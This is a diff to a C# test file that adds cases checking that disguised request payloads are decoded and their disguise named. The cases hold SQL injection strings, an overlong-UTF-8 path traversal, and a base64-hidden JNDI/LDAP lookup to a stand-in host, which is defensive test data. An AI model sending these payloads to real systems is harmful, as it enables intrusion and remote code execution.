@@ -34,6 +34,9 @@ public sealed class EvidenceTests
     [InlineData("/a?id=1+union+select+1,2", "plus", "1 union select 1,2")]
     [InlineData("/a?id=1%27/*!50000union*/%20select%201", "url sql_comment", "1'union select 1")]
     [InlineData("/a?f=%c0%ae%c0%ae/%c0%ae%c0%ae/keys", "url+overlong", "../../keys")]
+    [InlineData("/a?q=JHtqbmRpOmxkYXA6Ly8xOTguNTEuMTAwLjcvYX0%253D", "base64", "${jndi:ldap://198.51.100.7/a}")]
+    [InlineData("/a?id=7%E2%80%99%20or%20%E2%80%99k%E2%80%99=%E2%80%99k", "url full_width", "7' or 'k'='k")]
+    [InlineData("/a?id=-7'%a0union%a0select%201,2", "url full_width", "-7' union select 1,2")]
     public void Each_disguise_is_named_and_undone(string target, string by, string last)
     {
         var how = Explain(target);
